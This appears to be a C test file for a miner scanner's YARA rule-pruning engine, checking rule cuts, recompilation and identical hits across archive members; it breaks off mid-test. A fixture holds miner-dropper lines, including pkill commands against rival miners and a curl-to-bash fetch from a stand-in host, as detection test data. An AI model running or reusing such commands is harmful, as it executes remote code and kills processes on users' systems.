/*
 * test_ruleprune.c - rule sets cut to an object's kind (issue 12,
 * scanner/ruleprune.h): what the reader decides from a condition, that
 * the cut text compiles with libyara to the same rules, and that scans
 * with the cut sets give exactly the hits of the whole set (built-in and
 * user rules, objects of every kind and size class). The prefilter: the
 * literals read from each string (rulelits.h), their search (litscan.h),
 * what their absence proves, and the same hits with it.
 */
#include <criterion/criterion.h>
#include <stdlib.h>
#include <fcntl.h>
#include <unistd.h>
#include <string.h>
#include <yara.h>

#include "bytes.h"
#include "engine.h"
#include "litscan.h"
#include "minerscan.h"
#include "rulelits.h"
#include "ruleprune.h"
#include "util.h"

TestSuite(ruleprune, .init = t_tmp_setup, .fini = t_tmp_teardown, .timeout = 300);

/* Each rule's name says what it must be for a 5 MiB ELF: cut_* are false
 * for it, keep_* are not (unknown or true). */
static const char gated[] =
    "import \"pe\"\n"
    "/* a comment that says rule fake { condition: false } */\n"
    "// rule fake2 { condition: true }\n"
    "rule cut_small { strings: $a = \"kill -9\" condition: filesize < 4MB and $a }\n"
    "rule cut_small_le { strings: $a = \"x\" condition: filesize <= 1048576 and #a > 2 }\n"
    "rule cut_pe : tag1 tag2 { meta: author = \"t\" score = 70 strings: $a = { 4D 5A ?? [2-4] 00 } "
    "condition: uint16(0) == 0x5a4d and $a }\n"
    "rule cut_pe_and_small { strings: $r = /ab\\/c\\}d\"e/ nocase condition: "
    "uint16(0) == 0x5A4D and filesize < 2MB and $r }\n"
    "private rule is_pe { condition: uint16(0) == 0x5a4d }\n"
    "rule cut_by_reference { strings: $a = \"zz\" wide xor(1-3) condition: is_pe and $a }\n"
    "rule cut_both_sides_false { strings: $a = \"q\" base64(\"!@#$%^&*(){}[].,|ABCDEFGHIJ\\x09LMNOPQRSTUVWXYZabcdefghijklmnopqrstu\") "
    "condition: (filesize < 100KB and $a) or (uint32(0) == 0x00905a4d) }\n"
    "rule cut_wasm { strings: $1 = \"memory\" condition: uint32(0) == 0x6d736100 and $1 }\n"
    "rule cut_not_elf { condition: not (uint32(0) == 0x464c457f) }\n"
    "rule cut_false { condition: false }\n"
    "rule keep_or { strings: $a = \"pool\" condition: filesize < 4MB or $a }\n"
    "rule keep_not { strings: $a = \"pool\" condition: not filesize < 4MB and $a }\n"
    "rule keep_arith { strings: $a = \"pool\" condition: filesize < 4MB + 2MB and $a }\n"
    "rule keep_other_offset { condition: uint16(0x3c) == 0x5a4d }\n"
    "rule keep_elf { strings: $a = \"pool\" condition: uint32(0) == 0x464c457f and $a }\n"
    "rule keep_module { condition: pe.number_of_sections > 2 and filesize > 10 }\n"
    "rule keep_for { strings: $a = \"and\" condition: for any i in (1..#a) : (@a[i] < 100 and filesize < 4MB) "
    "or uint8(0) == 0x7f }\n"
    "rule keep_matches { condition: pe.sections[0].name matches /and|or\\// }\n"
    "global rule keep_global { condition: filesize > 0 }\n";

static size_t decide(ms_prune *p, ms_head h, uint64_t min, uint8_t *off) {
    return ms_prune_decide(p, h, min, off);
}

Test(ruleprune, decides_only_what_the_condition_proves) {
    ms_prune *p = ms_prune_new();
    cr_assert(ms_prune_add(p, gated, strlen(gated), "t"), "the file is followed");
    size_t n = ms_prune_rules(p);
    cr_assert_eq(n, 19, "every rule is found, the commented ones are not: %zu", n);
    uint8_t off[32];
    size_t cut = decide(p, MS_HEAD_ELF, 4u << 20, off);
    /* the names say it: rules in source order */
    static const char *const names[] = {
        "cut_small", "cut_small_le", "cut_pe", "cut_pe_and_small", "is_pe", "cut_by_reference",
        "cut_both_sides_false", "cut_wasm", "cut_not_elf", "cut_false", "keep_or", "keep_not", "keep_arith",
        "keep_other_offset", "keep_elf", "keep_module", "keep_for", "keep_matches", "keep_global"};
    /* is_pe (private, false for an ELF) is cut too */
    size_t want_cut = 0;
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        bool expect = !strncmp(names[i], "cut_", 4) || !strcmp(names[i], "is_pe");
        want_cut += expect;
        cr_expect_eq(off[i], expect, "%s for a 4 MiB ELF: %s", names[i], off[i] ? "cut" : "kept");
    }
    cr_assert_eq(cut, want_cut);
    (void)n;

    /* a small ELF: only the header tests decide */
    decide(p, MS_HEAD_ELF, 0, off);
    cr_assert_eq(off[0], 0, "filesize < 4MB is unknown for small objects");
    cr_assert_eq(off[2], 1, "uint16(0) == 0x5a4d is false for an ELF of any size");
    cr_assert_eq(off[6], 0, "filesize < 100KB or a PE header: unknown for a small ELF");
    /* a PE: the PE rules stay, the ELF ones go */
    decide(p, MS_HEAD_MZ, 0, off);
    cr_assert_eq(off[2], 0, "a PE rule is kept for a PE");
    cr_assert_eq(off[5], 0, "is_pe is true for a PE: the reference stays");
    cr_assert_eq(off[8], 0, "not ELF: true for a PE");
    cr_assert_eq(off[14], 1, "an ELF-only rule is false for a PE");
    cr_assert_eq(off[6], 0, "uint32(0) == 0x00905a4d is unknown when only MZ is known");
    /* anything else (text, archives): neither header */
    decide(p, MS_HEAD_OTHER, 0, off);
    cr_assert_eq(off[2], 1);
    cr_assert_eq(off[14], 1);
    cr_assert_eq(off[7], 0, "the wasm header may be there");
    /* nothing known of the first bytes (Mach-O, fewer than 4 bytes) */
    decide(p, MS_HEAD_ANY, 0, off);
    for (size_t i = 0; i < n; i++)
        cr_assert_eq(off[i], i == 9, "only 'false' is false when nothing is known (rule %zu)", i);
    ms_prune_free(p);
}

Test(ruleprune, what_it_cannot_follow_is_never_cut) {
    static const char *const whole[] = {
        "include \"other.yar\"\nrule a { condition: filesize < 10 }\n",
        "rule a { condition: filesize < 10 \n",   /* no end */
        "rule a { strings: $a = \"open condition: filesize < 10 }\n",
        "rule a { condition: filesize < 10 } @@@\n",
    };
    for (size_t i = 0; i < sizeof(whole) / sizeof(whole[0]); i++) {
        ms_prune *p = ms_prune_new();
        cr_assert_not(ms_prune_add(p, whole[i], strlen(whole[i]), "t"), "case %zu is not followed", i);
        cr_assert_eq(ms_prune_rules(p), 0, "case %zu: its rules are unknown", i);
        uint8_t off[4] = {0};
        cr_assert_eq(ms_prune_decide(p, MS_HEAD_ELF, 64u << 20, off), 0);
        cr_assert_null(ms_prune_text(p, 0, off));
        ms_prune_free(p);
    }
    /* a reference to a rule of another namespace is unknown */
    ms_prune *p = ms_prune_new();
    const char a[] = "rule small { condition: filesize < 10 }\n";
    const char b[] = "rule small2 { condition: filesize < 10 }\nrule uses { condition: small }\n";
    cr_assert(ms_prune_add(p, a, strlen(a), "ns1"));
    cr_assert(ms_prune_add(p, b, strlen(b), "ns2"));
    uint8_t off[3];
    cr_assert_eq(ms_prune_decide(p, MS_HEAD_ANY, 1u << 20, off), 2);
    cr_assert_eq(off[2], 0, "'small' is not a rule of ns2");
    ms_prune_free(p);
}

static int compile_ok(const char *text, YR_RULES **ret) {
    YR_COMPILER *c = NULL;
    cr_assert_eq(yr_compiler_create(&c), ERROR_SUCCESS);
    int errors = yr_compiler_add_string(c, text, "t");
    if (errors == 0)
        cr_assert_eq(yr_compiler_get_rules(c, ret), ERROR_SUCCESS);
    yr_compiler_destroy(c);
    return errors;
}

Test(ruleprune, the_cut_text_compiles_to_the_same_rules) {
    cr_assert_eq(yr_initialize(), ERROR_SUCCESS);
    ms_prune *p = ms_prune_new();
    cr_assert(ms_prune_add(p, gated, strlen(gated), "t"));
    uint8_t off[32];
    cr_assert_gt(ms_prune_decide(p, MS_HEAD_ELF, 4u << 20, off), 0);
    char *text = ms_prune_text(p, 0, off);
    cr_assert_not_null(text);
    YR_RULES *whole = NULL, *cut = NULL;
    cr_assert_eq(compile_ok(gated, &whole), 0);
    cr_assert_eq(compile_ok(text, &cut), 0, "the cut text compiles:\n%s", text);
    /* the same rules in the same order, with their tags and metadata */
    YR_RULE *r1, *r2;
    size_t n1 = 0, n2 = 0;
    yr_rules_foreach(whole, r1) n1++;
    yr_rules_foreach(cut, r2) n2++;
    cr_assert_eq(n1, n2);
    r2 = cut->rules_table;
    yr_rules_foreach(whole, r1) {
        cr_assert_str_eq(r1->identifier, r2->identifier);
        cr_assert_eq(RULE_IS_PRIVATE(r1), RULE_IS_PRIVATE(r2));
        cr_assert_eq(RULE_IS_GLOBAL(r1), RULE_IS_GLOBAL(r2));
        if (!strcmp(r1->identifier, "cut_pe")) {
            cr_assert_str_eq(r2->tags, "tag1");
            YR_META *m;
            int metas = 0;
            yr_rule_metas_foreach(r2, m) metas++;
            cr_assert_eq(metas, 2, "metadata kept");
        }
        r2++;
    }
    cr_assert_null(strstr(text, "kill -9"), "a cut rule's strings are gone");
    cr_assert_not_null(strstr(text, "\"pool\""), "a kept rule's are not");
    yr_rules_destroy(whole);
    yr_rules_destroy(cut);
    free(text);
    ms_prune_free(p);
    yr_finalize();
}

/* ---- scans: the cut sets give the whole set's hits ---- */

typedef struct {
    char names[4096];
} hits;

static int keep_hits(void *ud, ms_verdict *v) {
    hits *h = ud;
    for (size_t i = 0; i < v->n_rules; i++) {
        strncat(h->names, v->rules[i].rule, sizeof(h->names) - strlen(h->names) - 2);
        strncat(h->names, " ", sizeof(h->names) - strlen(h->names) - 1);
    }
    ms_verdict_free(v);
    return MS_CONTINUE;
}

/* Objects of every head and size class that hit built-in and user rules. */
typedef struct {
    uint8_t *data;
    size_t size;
    const char *name;
} object;

static object make(const char *name, const char *head, size_t headlen, const char *body, size_t size) {
    object o = {.data = calloc(1, size), .size = size, .name = name};
    cr_assert_not_null(o.data);
    memset(o.data, 'A', size);
    memcpy(o.data, head, headlen);
    size_t bl = strlen(body);
    memcpy(o.data + 64, body, bl);
    memcpy(o.data + size - bl - 1, body, bl); /* near the end of a big one too */
    return o;
}

static const char miner_body[] =
    "\nXMRig 6.21.0 built for linux\ndonate.v2.xmrig.com max-threads-hint huge-pages-jit\n"
    "donate-level 1\nrandomx\nuse pool stratum+tcp://pool.example.com:3333\nnew job from pool\n"
    "mining.subscribe mining.submit\npkill -9 xmrig; pkill -9 kinsing; pkill -9 kdevtmpfsi; pkill -9 minerd; "
    "pkill -9 cryptonight; killall -9 xmr-stak\ncurl -s http://x.example/x.sh | bash\n";

static const char user_rules[] =
    "rule u_small { strings: $a = \"mining.subscribe\" condition: filesize < 2MB and $a }\n"
    "rule u_pe { strings: $a = \"randomx\" condition: uint16(0) == 0x5a4d and $a }\n"
    "rule u_elf_big { strings: $a = \"randomx\" condition: uint32(0) == 0x464c457f and not filesize < 4MB and $a }\n"
    "rule u_any { strings: $a = \"stratum+tcp\" condition: $a }\n";

/* the prefilter's skips in the last scan_all */
static uint64_t last_skips;

static void scan_all(const object *obs, size_t n, const char *mode, const char *rules, hits *out,
                     size_t *ret_cut) {
    setenv("MINERSCAN_RULE_CUT", mode, 1);
    ms_options o;
    ms_options_default(&o);
    const char *rv[] = {rules};
    o.rules = rv;
    o.n_rules = rules ? 1 : 0;
    ms_engine *e = NULL;
    ms_worker *w = NULL;
    char *err = NULL;
    int r = ms_engine_new(&o, &e, &err);
    cr_assert_eq(r, 0, "%s", err ? err : "");
    cr_assert_eq(ms_worker_new(e, &w), 0);
    for (size_t i = 0; i < n; i++) {
        ms_sink sink = {.emit = keep_hits, .ud = &out[i]};
        cr_assert_geq(ms_worker_scan_buffer(w, obs[i].data, obs[i].size, obs[i].name, strlen(obs[i].name), &sink),
                      0);
    }
    *ret_cut = ms_engine_cut_sets(e);
    last_skips = ms_engine_clean_skips(e);
    ms_worker_free(w);
    ms_engine_free(e);
    unsetenv("MINERSCAN_RULE_CUT");
}

Test(ruleprune, cut_sets_give_the_hits_of_the_whole_set) {
    char *rules = t_write_str(t_tmp, "user.yar", user_rules);
    object obs[] = {
        make("small.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 64 << 10),
        make("big.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 5 << 20),
        make("huge.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 17 << 20),
        make("small.exe", "MZ\x90\x00", 4, miner_body, 64 << 10),
        make("big.exe", "MZ\x90\x00", 4, miner_body, 3 << 20),
        /* in the 1 MiB class, under u_small's 2 MB */
        make("mid.exe", "MZ\x90\x00", 4, miner_body, (3 << 20) / 2),
        make("drop.sh", "#!/bin/sh\n", 10, miner_body, 8 << 10),
        make("big.sh", "#!/bin/sh\n", 10, miner_body, 5 << 20),
        make("macho", "\xcf\xfa\xed\xfe", 4, miner_body, 2 << 20),
        make("tiny", "MZ", 2, "", 3),
    };
    size_t n = sizeof(obs) / sizeof(obs[0]);
    hits whole[16] = {0}, cut[16] = {0};
    size_t cut_sets_off = 0, cut_sets_on = 0;
    scan_all(obs, n, "off", rules, whole, &cut_sets_off);
    scan_all(obs, n, "always", rules, cut, &cut_sets_on);
    cr_assert_eq(cut_sets_off, 0);
    cr_assert_geq(cut_sets_on, 4, "the classes met got their cut sets: %zu", cut_sets_on);
    size_t total = 0;
    for (size_t i = 0; i < n; i++) {
        cr_expect_str_eq(cut[i].names, whole[i].names, "%s: cut sets hit [%s], the whole set [%s]", obs[i].name,
                         cut[i].names, whole[i].names);
        for (const char *s = whole[i].names; *s; s++)
            total += *s == ' ';
    }
    /* the fixtures do reach the gated rules */
    cr_assert_geq(total, 30, "%zu hits", total);
    cr_assert_not_null(strstr(whole[1].names, "u_elf_big"));
    cr_assert_null(strstr(whole[1].names, "u_small"));
    cr_assert_not_null(strstr(whole[3].names, "u_pe"));
    cr_assert_not_null(strstr(whole[5].names, "u_small"), "%s", whole[5].names);
    cr_assert_not_null(strstr(whole[6].names, "dropper_kill_competitors"), "%s", whole[6].names);
    cr_assert_null(strstr(whole[7].names, "dropper_kill_competitors"), "%s", whole[7].names);
    for (size_t i = 0; i < n; i++)
        free(obs[i].data);
    free(rules);
}

/* The built-in rules alone (no user rules): the cut sets of the blob's
 * sources, the same hits. */
Test(ruleprune, builtin_cut_sets_give_the_same_hits) {
    object obs[] = {
        make("big.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 5 << 20),
        make("drop.sh", "#!/bin/sh\n", 10, miner_body, 8 << 10),
        make("config.json", "{\n", 2, miner_body, 4 << 10),
    };
    size_t n = sizeof(obs) / sizeof(obs[0]);
    hits whole[4] = {0}, cut[4] = {0};
    size_t off_sets, on_sets;
    scan_all(obs, n, "off", NULL, whole, &off_sets);
    scan_all(obs, n, "always", NULL, cut, &on_sets);
    cr_assert_gt(on_sets, 0);
    for (size_t i = 0; i < n; i++) {
        cr_assert_str_eq(cut[i].names, whole[i].names, "%s", obs[i].name);
        cr_assert_neq(whole[i].names[0], '\0', "%s hits the built-in rules", obs[i].name);
    }
    for (size_t i = 0; i < n; i++)
        free(obs[i].data);
}

/* ---- absent sets: members that hold none of the set's strings ---- */

/* Each rule's name says what it must be for an object holding none of the
 * set's strings: off_* are false then, keep_* may match (or hold a string
 * whose matches in a member need not be matches in its archive). */
static const char absent_text[] =
    "rule off_any { strings: $a = \"x1\" condition: any of them }\n"
    "rule off_and { strings: $a = \"x2\" $b = \"y2\" condition: $a and $b and filesize > 10 }\n"
    "rule keep_or_size { strings: $a = \"x3\" condition: $a or filesize < 100 }\n"
    "rule keep_not { strings: $a = \"x4\" condition: not $a }\n"
    "rule keep_count { strings: $a = \"x5\" condition: #a == 0 }\n"
    "rule off_all { strings: $a = \"x6\" $b = \"x7\" condition: all of them }\n"
    "rule off_n_of { strings: $a = \"x6\" $bb = \"x7\" condition: 2 of ($a, $b*) }\n"
    "rule keep_no_strings { condition: filesize < 10 }\n"
    "rule off_ref { condition: off_any }\n"
    "rule keep_ref_not { condition: not off_any }\n"
    "rule keep_fullword { strings: $a = \"pool\" fullword condition: $a }\n"
    "rule keep_caret { strings: $a = /^MZ/ condition: $a }\n"
    "rule keep_dollar { strings: $a = /end$/ condition: $a }\n"
    "rule off_classes { strings: $a = /[^a-z]x[$^]/ condition: $a }\n"
    "rule keep_boundary { strings: $a = /\\bword/ condition: $a }\n"
    "rule off_escaped { strings: $a = /a\\\\b\\$/ condition: $a }\n"
    "rule keep_at { strings: $a = \"MZ\" condition: $a at 0 }\n"
    "rule keep_in { strings: $a = \"MZ\" condition: $a in (0..2) }\n"
    "rule off_needs_both { condition: keep_fullword and off_any }\n"
    "rule keep_either { condition: keep_fullword or off_any }\n"
    "rule keep_for { strings: $a = \"x9\" condition: for any of them : ( $ ) }\n";

Test(ruleprune, decides_what_absent_strings_prove) {
    ms_prune *p = ms_prune_new();
    cr_assert(ms_prune_add(p, absent_text, strlen(absent_text), "t"));
    static const char *const names[] = {
        "off_any", "off_and", "keep_or_size", "keep_not", "keep_count", "off_all", "off_n_of",
        "keep_no_strings", "off_ref", "keep_ref_not", "keep_fullword", "keep_caret", "keep_dollar",
        "off_classes", "keep_boundary", "off_escaped", "keep_at", "keep_in", "off_needs_both", "keep_either",
        "keep_for"};
    size_t n = sizeof(names) / sizeof(names[0]);
    cr_assert_eq(ms_prune_rules(p), n);
    uint8_t off[32];
    size_t cut = ms_prune_decide_absent(p, off), want = 0;
    for (size_t i = 0; i < n; i++) {
        bool expect = !strncmp(names[i], "off_", 4);
        want += expect;
        cr_expect_eq(off[i], expect, "%s with no string matched: %s", names[i], off[i] ? "cut" : "kept");
    }
    cr_assert_eq(cut, want);

    /* the cut text compiles to the same rules, the cut ones' strings gone */
    cr_assert_eq(yr_initialize(), ERROR_SUCCESS);
    char *text = ms_prune_text(p, 0, off);
    cr_assert_not_null(text);
    YR_RULES *whole = NULL, *cut_rules = NULL;
    cr_assert_eq(compile_ok(absent_text, &whole), 0);
    cr_assert_eq(compile_ok(text, &cut_rules), 0, "the absent text compiles:\n%s", text);
    YR_RULE *r;
    size_t n1 = 0, n2 = 0;
    yr_rules_foreach(whole, r) n1++;
    yr_rules_foreach(cut_rules, r) n2++;
    cr_assert_eq(n1, n2);
    cr_assert_null(strstr(text, "\"x1\""));
    cr_assert_not_null(strstr(text, "\"x4\""));
    yr_rules_destroy(whole);
    yr_rules_destroy(cut_rules);
    yr_finalize();
    free(text);
    ms_prune_free(p);
}

/* Records of one scan: "path: rule rule ...\n" each, in the order made. */
typedef struct {
    char *text;
    size_t len;
} records;

static int keep_records(void *ud, ms_verdict *v) {
    records *r = ud;
    size_t need = v->path_len + 16;
    for (size_t i = 0; i < v->n_rules; i++)
        need += strlen(v->rules[i].rule) + 1;
    r->text = realloc(r->text, r->len + need + 1);
    cr_assert_not_null(r->text);
    r->len += (size_t)sprintf(r->text + r->len, "%.*s:", (int)v->path_len, v->path);
    for (size_t i = 0; i < v->n_rules; i++)
        r->len += (size_t)sprintf(r->text + r->len, " %s", v->rules[i].rule);
    r->len += (size_t)sprintf(r->text + r->len, "\n");
    ms_verdict_free(v);
    return MS_CONTINUE;
}

/* Scan the files in mode (MINERSCAN_RULE_CUT) with rules added to the
 * built-in ones; the records into out[i], the absent scans made. */
static uint64_t scan_files(char *const *paths, size_t n, const char *mode, const char *rules, records *out,
                           bool mapped) {
    setenv("MINERSCAN_RULE_CUT", mode, 1);
    ms_options o;
    ms_options_default(&o);
    const char *rv[] = {rules};
    o.rules = rv;
    o.n_rules = 1;
    ms_engine *e = NULL;
    ms_worker *w = NULL;
    char *err = NULL;
    cr_assert_eq(ms_engine_new(&o, &e, &err), 0, "%s", err ? err : "");
    cr_assert_eq(ms_worker_new(e, &w), 0);
    for (size_t i = 0; i < n; i++) {
        ms_sink sink = {.emit = keep_records, .ud = &out[i]};
        if (mapped) {
            /* as a file: mapped, and scanned in windows when big */
            int fd = open(paths[i], O_RDONLY | O_CLOEXEC);
            cr_assert_geq(fd, 0, "%s", paths[i]);
            cr_assert_geq(ms_worker_scan_fd(w, fd, paths[i], strlen(paths[i]), 0, &sink, NULL), 0);
            close(fd);
            continue;
        }
        size_t len = 0;
        uint8_t *d = (uint8_t *)t_read(paths[i], &len);
        cr_assert_not_null(d, "%s", paths[i]);
        cr_assert_geq(ms_worker_scan_buffer(w, d, len, paths[i], strlen(paths[i]), &sink), 0);
        free(d);
    }
    uint64_t absent = ms_engine_absent_scans(e);
    ms_worker_free(w);
    ms_engine_free(e);
    unsetenv("MINERSCAN_RULE_CUT");
    return absent;
}

static const char member_rules[] =
    "rule m_any { strings: $a = \"stratum+tcp://\" condition: $a }\n"
    "rule m_fullword_end { strings: $a = \"pool.example.org\" fullword condition: $a }\n"
    "rule m_at_start { strings: $a = \"QZ!\" condition: $a at 0 }\n"
    "rule m_anchored { strings: $a = /^QZ!/ condition: $a }\n"
    "rule m_dollar { strings: $a = /tail-of-it$/ condition: $a }\n"
    "rule m_none_here { strings: $a = \"not-in-any-member\" condition: not $a and filesize < 1MB }\n"
    "rule m_count_zero { strings: $a = \"zz-nowhere\" condition: #a == 0 and filesize > 100 }\n"
    "rule m_small { condition: filesize < 600 }\n";

/* The record line of the path that ends with suffix, or NULL. */
static char *record_line(const char *text, const char *suffix) {
    for (const char *l = text; l && *l;) {
        const char *e = strchr(l, '\n'), *colon = strstr(l, ": ");
        const char *pe = colon && (!e || colon < e) ? colon : strchr(l, ':');
        size_t sl = strlen(suffix);
        if (pe && (size_t)(pe - l) >= sl && !memcmp(pe - sl, suffix, sl)) {
            size_t n = e ? (size_t)(e - l) : strlen(l);
            char *out = malloc(n + 1);
            memcpy(out, l, n);
            out[n] = '\0';
            return out;
        }
        l = e ? e + 1 : NULL;
    }
    return NULL;
}

static bool has_word(const char *line, const char *w) {
    size_t n = strlen(w);
    for (const char *p = strstr(line, w); p; p = strstr(p + 1, w))
        if (p[-1] == ' ' && (p[n] == ' ' || p[n] == '\0'))
            return true;
    return false;
}

typedef struct {
    const char *path, *rules;
} want_hits;

/* Each want's rules are in the record of its path (the built-in rules may
 * hit there too: only these are looked for). */
static void expect_hits(const char *text, const want_hits *want, size_t n) {
    for (size_t k = 0; k < n; k++) {
        char *line = record_line(text, want[k].path);
        cr_assert_not_null(line, "no record %s in:\n%s", want[k].path, text);
        char names[256];
        snprintf(names, sizeof(names), "%s", want[k].rules);
        for (char *sv = NULL, *r = strtok_r(names, " ", &sv); r; r = strtok_r(NULL, " ", &sv))
            cr_expect(has_word(line, r), "%s lacks %s: %s", want[k].path, r, line);
        cr_expect(!has_word(line, "m_small") || strstr(want[k].path, "small"), "%s", line);
        free(line);
    }
}

/* Run argv in dir; the test fails when it does. */
static void run_in(const char *dir, const char *const *argv) {
    t_result res;
    char *cwd = getcwd(NULL, 0);
    cr_assert_eq(chdir(dir), 0);
    int rc = t_run(argv, NULL, 60, &res);
    cr_assert_eq(chdir(cwd), 0);
    free(cwd);
    cr_assert_eq(rc, 0, "%s: %s", argv[0], res.err ? res.err : "");
    t_result_free(&res);
}

/* Members stored in an ar archive and in tar archives (one nested): each
 * is a slice of its archive's bytes, and most hold none of the strings. */
static void make_member_archives(const char *dir, char **paths) {
    cr_assert(t_have_program("ar") && t_have_program("tar"), "ar (binutils) and tar: tests/setup.sh installs them");
    char filler[700];
    memset(filler, 'q', sizeof(filler));
    filler[sizeof(filler) - 1] = '\0';
    char buf[2048];
    /* a string in the middle: found in the archive too */
    snprintf(buf, sizeof(buf), "%s use stratum+tcp://pool.example.org:3333 %s", filler, filler);
    free(t_write_str(dir, "mid.o", buf));
    /* a fullword string at the very end of an even-sized member: in the
     * archive the next header's name ("zz.o/") follows it, a letter, and
     * libyara's fullword check fails there; in the member it holds */
    snprintf(buf, sizeof(buf), "%s pool.example.org", filler);
    if (strlen(buf) % 2)
        memmove(buf, buf + 1, strlen(buf));
    free(t_write_str(dir, "end.o", buf));
    /* QZ! at the member's offset 0, which is no offset 0 of the archive */
    snprintf(buf, sizeof(buf), "QZ!%s", filler);
    free(t_write_str(dir, "qz.o", buf));
    /* the end of the member, not of the archive */
    snprintf(buf, sizeof(buf), "%s tail-of-it", filler);
    free(t_write_str(dir, "tail.o", buf));
    /* nothing of any rule: only the rules that hold without strings */
    free(t_write_str(dir, "zz.o", filler));
    free(t_write_str(dir, "small.o", "tiny member"));
    run_in(dir, (const char *const[]){"ar", "rcS", "lib.a", "mid.o", "end.o", "zz.o", "qz.o", "tail.o", "small.o",
                                      NULL});
    run_in(dir, (const char *const[]){"tar", "--format=ustar", "-cf", "inner.tar", "qz.o", "zz.o", "end.o",
                                      "tail.o", NULL});
    run_in(dir, (const char *const[]){"tar", "--format=ustar", "-cf", "outer.tar", "inner.tar", "lib.a", "mid.o",
                                      "small.o", NULL});
    paths[0] = t_path(dir, "lib.a");
    paths[1] = t_path(dir, "outer.tar");
}

Test(ruleprune, absent_sets_give_the_hits_of_the_whole_set) {
    char *rules = t_write_str(t_tmp, "members.yar", member_rules), *paths[2];
    make_member_archives(t_tmp, paths);
    records whole[2] = {0}, absent[2] = {0};
    uint64_t n_off = scan_files(paths, 2, "off", rules, whole, false);
    uint64_t n_on = scan_files(paths, 2, "always", rules, absent, false);
    cr_assert_eq(n_off, 0);
    /* every member with none of its archive's matches took the absent
     * set: in lib.a all but mid.o (end.o too: the letter after it in the
     * archive fails its fullword string there) = 5; in outer.tar small.o
     * (inner.tar holds end.o's match, followed by zeros in a tar; lib.a and
     * mid.o hold mid.o's) = 1; in inner.tar qz.o, zz.o, tail.o = 3; in the
     * lib.a inside outer.tar the same 5 */
    cr_assert_eq(n_on, 14, "absent scans: %llu", (unsigned long long)n_on);
    for (int i = 0; i < 2; i++) {
        cr_assert_not_null(whole[i].text);
        cr_expect_str_eq(absent[i].text, whole[i].text, "%s:\nabsent sets:\n%s\nthe whole set:\n%s", paths[i],
                         absent[i].text, whole[i].text);
    }
    /* and the fixtures reach every kind of rule, in members and nested */
    static const want_hits in_tar[] = {
        {"!inner.tar!end.o", "m_fullword_end m_none_here m_count_zero"},
        {"!inner.tar!qz.o", "m_at_start m_anchored m_none_here m_count_zero"},
        {"!inner.tar!tail.o", "m_dollar m_none_here m_count_zero"},
        {"!inner.tar!zz.o", "m_none_here m_count_zero"},
        {"outer.tar!lib.a!end.o", "m_fullword_end m_none_here m_count_zero"},
        {"outer.tar!lib.a!small.o", "m_none_here m_small"},
        {"outer.tar!mid.o", "m_any m_fullword_end m_none_here m_count_zero"},
    };
    static const want_hits in_ar[] = {{"lib.a!qz.o", "m_at_start m_anchored"}, {"lib.a!tail.o", "m_dollar"}};
    expect_hits(whole[1].text, in_tar, sizeof(in_tar) / sizeof(in_tar[0]));
    expect_hits(whole[0].text, in_ar, sizeof(in_ar) / sizeof(in_ar[0]));
    for (int i = 0; i < 2; i++) {
        free(whole[i].text);
        free(absent[i].text);
        free(paths[i]);
    }
    free(rules);
}

/* An archive too big to scan in one block (MS_WINDOW): its spans speak for
 * the members inside one window's block, which are handed over from the
 * mapping as they lie. */
Test(ruleprune, absent_sets_in_an_archive_scanned_in_windows) {
    char *rules = t_write_str(t_tmp, "members.yar", member_rules), *paths[2];
    make_member_archives(t_tmp, paths);
    /* 33 MiB of zeros first: the members after it are in the second window */
    size_t pad = 33u << 20;
    char *zeros = calloc(1, pad);
    cr_assert_not_null(zeros);
    free(t_write(t_tmp, "pad.bin", zeros, pad));
    free(zeros);
    run_in(t_tmp, (const char *const[]){"tar", "--format=ustar", "-cf", "big.tar", "pad.bin", "end.o", "qz.o",
                                        "tail.o", "zz.o", "small.o", "mid.o", "lib.a", NULL});
    char *big[1] = {t_path(t_tmp, "big.tar")};
    records whole[1] = {0}, absent[1] = {0};
    cr_assert_eq(scan_files(big, 1, "off", rules, whole, true), 0);
    uint64_t n_on = scan_files(big, 1, "always", rules, absent, true);
    /* in big.tar, past its first window: qz.o, tail.o, zz.o, small.o (not
     * end.o: in a tar zeros follow it and the fullword string matches in
     * the archive too; not mid.o, not lib.a: they hold matches); in lib.a
     * those four and end.o. Without the spans of a windowed scan, only
     * lib.a's five. */
    cr_assert_eq(n_on, 9, "absent scans: %llu", (unsigned long long)n_on);
    cr_assert_not_null(whole[0].text);
    cr_expect_str_eq(absent[0].text, whole[0].text, "absent sets:\n%s\nthe whole set:\n%s", absent[0].text,
                     whole[0].text);
    static const want_hits want[] = {
        {"big.tar!end.o", "m_fullword_end"},
        {"big.tar!qz.o", "m_at_start m_anchored"},
        {"big.tar!tail.o", "m_dollar"},
        {"big.tar!zz.o", "m_none_here m_count_zero"},
        {"big.tar!small.o", "m_small"},
        {"big.tar!mid.o", "m_any"},
        {"big.tar!lib.a!end.o", "m_fullword_end"},
    };
    expect_hits(whole[0].text, want, sizeof(want) / sizeof(want[0]));
    free(whole[0].text);
    free(absent[0].text);
    free(big[0]);
    for (int i = 0; i < 2; i++)
        free(paths[i]);
    free(rules);
}

/* A string libyara stops recording (more than its million matches, in
 * one member) leaves the archive's spans incomplete: a later member that
 * holds the string is scanned whole, not as absent. minerscan's own cap
 * on spans (256 Ki) is reached first; with either guard alone the test
 * passes, with neither late.o loses its hit. */
Test(ruleprune, spans_past_libyaras_match_limit_are_not_trusted) {
    char *rules = t_write_str(t_tmp, "many.yar", "rule t_many { strings: $a = \"aa\" condition: $a }\n");
    size_t n = (1u << 20) + (64u << 10);
    char *many = malloc(n + 1);
    cr_assert_not_null(many);
    memset(many, 'a', n);
    many[n] = '\0';
    free(t_write_str(t_tmp, "many.o", many));
    free(many);
    /* past the million: in the archive's scan its "aa" is not recorded */
    free(t_write_str(t_tmp, "late.o", "-- aa --\n"));
    cr_assert(t_have_program("ar"), "ar (binutils): tests/setup.sh installs it");
    run_in(t_tmp, (const char *const[]){"ar", "rcS", "many.a", "many.o", "late.o", NULL});
    char *path[1] = {t_path(t_tmp, "many.a")};
    records whole[1] = {0}, absent[1] = {0};
    scan_files(path, 1, "off", rules, whole, false);
    scan_files(path, 1, "always", rules, absent, false);
    cr_assert_not_null(whole[0].text);
    cr_expect_str_eq(absent[0].text, whole[0].text, "absent sets:\n%s\nthe whole set:\n%s", absent[0].text,
                     whole[0].text);
    static const want_hits want[] = {{"many.a!late.o", "t_many"}, {"many.a!many.o", "t_many"}};
